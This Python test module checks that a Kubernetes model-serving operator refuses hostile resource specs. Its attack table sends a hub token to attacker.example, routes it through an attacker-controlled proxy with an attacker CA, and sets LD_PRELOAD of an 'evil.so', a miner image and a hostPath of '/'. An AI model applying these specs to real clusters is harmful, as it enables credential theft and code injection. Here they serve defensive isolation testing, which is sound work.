"""The operator's half of ``bench/hostile_isolation.py``: the real operator, against kmock's
Kubernetes emulator (the chart's default policy), given the resources an attacker who may
create InferenceServices, Secrets and ConfigMaps in a namespace would write.

- what only the admin may choose (a ``hostPath`` of ``/``, an image of its own,
  ``system-cluster-critical``, control-plane nodes, their own hub endpoint for a token),
  runtime adapter loading through env or without an API key: each refused, no Deployment;
- env that would run code the admin never approved or send the hub token elsewhere
  (``LD_PRELOAD``, ``PYTHONPATH``, ``HTTPS_PROXY`` with ``SSL_CERT_FILE``, a lower-case
  ``https_proxy``, ``LWS_LEADER_ADDRESS``, an ``envFrom`` of a ConfigMap the operator
  cannot read): each refused, no Deployment;
- a multi-node group's key Secret made beforehand under the name the operator would use:
  the group never runs on it;
- and no Secret read by the operator at all.
"""

from __future__ import annotations

import base64

TOKEN = {"uri": "hf://org/m", "tokenSecretRef": {"name": "hf-token", "key": "token"}}
OPERATOR_ATTACKS = {
    "hostPath /": {"model": {"path": "/models/m", "volume": {"hostPath": {"path": "/"},
                                                             "mountPath": "/models"}}},
    "an image of its own": {"image": "docker.io/attacker/miner:latest"},
    "system-cluster-critical": {"priorityClassName": "system-cluster-critical"},
    "control-plane nodes": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""},
                            "tolerations": [{"operator": "Exists"}]},
    "runtime adapter loading through env": {
        "env": [{"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "true"}]},
    "runtime adapter loading without a key": {"allowRuntimeLoraUpdating": True},
    "a token sent to its own endpoint": {"model": {**TOKEN,
                                                   "endpoint": "https://attacker.example"}},
    # Code from a volume the author controls, in every container.
    "LD_PRELOAD of its own library": {
        "env": [{"name": "LD_PRELOAD", "value": "/models/m/evil.so"}]},
    "PYTHONPATH of its own modules": {
        "env": [{"name": "PYTHONPATH", "value": "/models/m/site"}]},
    # The hub token through a proxy of the author's, trusted by a CA of the author's.
    "the token through its own proxy": {"model": TOKEN, "env": [
        {"name": "HTTPS_PROXY", "value": "http://attacker.example:3128"},
        {"name": "SSL_CERT_FILE", "value": "/var/cache/kvledger/attacker-ca.pem"}]},
    "a lower-case https_proxy": {"model": TOKEN, "env": [
        {"name": "https_proxy", "value": "http://attacker.example:3128"}]},
    "a group's leader address of its own": {"nodes": 2, "env": [
        {"name": "LWS_LEADER_ADDRESS", "value": "attacker.example"}]},
    "envFrom a ConfigMap of its own": {"envFrom": [{"configMapRef": {"name": "evil"}}]},
}
ATTACKER_KEY = "0" * 64  # the group key the attacker chose


def _carried(cluster, name: str) -> str:
    """The containers of an applied workload that carry any env name or envFrom the
    attacks set (for the report of what got through)."""
    names = {var["name"] for spec in OPERATOR_ATTACKS.values() for var in spec.get("env", [])}
    found = []
    for plural in ("deployments", "leaderworkersets"):
        api = "apps/v1" if plural == "deployments" else "leaderworkerset.x-k8s.io/v1"
        body = cluster.stored(api, plural, "default", name)
        if body is None:
            continue
        pods = ([body["spec"]["template"]["spec"]] if plural == "deployments" else
                [t["spec"] for t in body["spec"]["leaderWorkerTemplate"].values()
                 if isinstance(t, dict) and "spec" in t])
        for pod in pods:
            for container in pod.get("initContainers", []) + pod["containers"]:
                if container.get("envFrom") or names & {v["name"] for v in
                                                         container.get("env", [])}:
                    found.append(container["name"])
    return ", ".join(dict.fromkeys(found)) or "none"


async def operator_attacks(failed: list[str]) -> None:
    from operator_harness import eventually, running_operator, service_manifest

    from kvledger.operator.api.resource import API_VERSION, PLURAL

    async with running_operator(default_image="ghcr.io/kvledger/kvledger:0.1.0") as cluster:
        await cluster.create("v1", "secrets", {
            "apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": "hf-token", "namespace": "default"},
            "data": {"token": "aGZfc2VjcmV0"}})
        for i, (attack, spec) in enumerate(OPERATOR_ATTACKS.items()):
            name = f"attack-{i}"
            await cluster.create(API_VERSION, PLURAL, service_manifest(name, **spec))

            def ready(name=name):
                obj = cluster.stored(API_VERSION, PLURAL, "default", name) or {}
                return next((c for c in (obj.get("status") or {}).get("conditions") or []
                             if c["type"] == "Ready"), None)

            condition = await eventually(ready, what=f"{attack}: Ready", timeout_s=20)
            applied = any(cluster.stored(api, plural, "default", name) is not None
                          for api, plural in (("apps/v1", "deployments"),
                                              ("leaderworkerset.x-k8s.io/v1",
                                               "leaderworkersets")))
            print(f"operator, {attack}: {condition['reason']}, workload "
                  f"{'applied, env in ' + _carried(cluster, name) if applied else 'none'}: "
                  f"{condition['message'][:100]}")
            if applied or condition["reason"] not in ("PolicyDenied", "InvalidSpec"):
                failed.append(f"operator, {attack}: {condition['reason']}, applied {applied}")
        await preset_group_key(cluster, failed)
        secret_reads = [a for a in cluster.emulator.asked if a[1] == "secrets" and a[0] != "POST"]
        print(f"operator, Secrets read: {len(secret_reads)}")
        if secret_reads:
            failed.append(f"the operator read Secrets: {secret_reads}")


async def preset_group_key(cluster, failed: list[str]) -> None:
    """A Secret named as the operator named a group's key (``NAME-nodes``), made before the
    resource: whether the group's engines are pointed at it."""
    from operator_harness import eventually, service_manifest

    from kvledger.operator.api.resource import API_VERSION, PLURAL

    await cluster.create("v1", "secrets", {
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": "grouped-nodes", "namespace": "default"},
        "data": {"key": base64.b64encode(ATTACKER_KEY.encode()).decode()}})
    await cluster.create(API_VERSION, PLURAL, service_manifest("grouped", nodes=2))
    lws = await eventually(lambda: cluster.stored("leaderworkerset.x-k8s.io/v1",
                                                  "leaderworkersets", "default", "grouped"),
                           what="the group's LeaderWorkerSet", timeout_s=20)
    engine = lws["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]["containers"][0]
    [ref] = [var["valueFrom"]["secretKeyRef"]["name"] for var in engine["env"]
             if var["name"] == "KVLEDGER_NODE_KEY"]
    secret = cluster.stored("v1", "secrets", "default", ref) or {}
    key = base64.b64decode((secret.get("data") or {}).get("key", "")).decode()
    theirs = key == ATTACKER_KEY
    print(f"operator, a group key Secret made beforehand: the engines read Secret {ref}, "
          f"{'the attacker' if theirs else 'the operator'}'s key")
    if theirs:
        failed.append(f"operator, a preset group key: the group runs on Secret {ref}")
